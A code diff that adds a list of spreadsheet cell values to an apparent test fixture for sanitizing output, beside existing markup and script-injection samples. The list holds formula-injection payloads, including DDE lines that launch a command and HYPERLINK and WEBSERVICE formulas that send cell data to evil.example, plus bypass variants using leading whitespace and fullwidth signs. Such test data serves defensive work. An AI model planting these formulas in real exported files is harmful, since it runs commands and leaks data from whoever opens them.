@@ -36,6 +36,27 @@ MARKUP = [
     "[x](/relative)",
     "\x02stop\x02 \x02lead\x02",
 ]
+# Cells of a table as a spreadsheet would obey them.
+CELLS = [
+    "=1+1",
+    "+44 7911 123456",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    '=WEBSERVICE("https://evil.example/?"&A1)',
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u00a0=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    '"=1+1',
+    "'=1+1",
+]
 RUN = "window.ran=1"
 HOSTILE = [
     f"<script>{RUN}</script>",
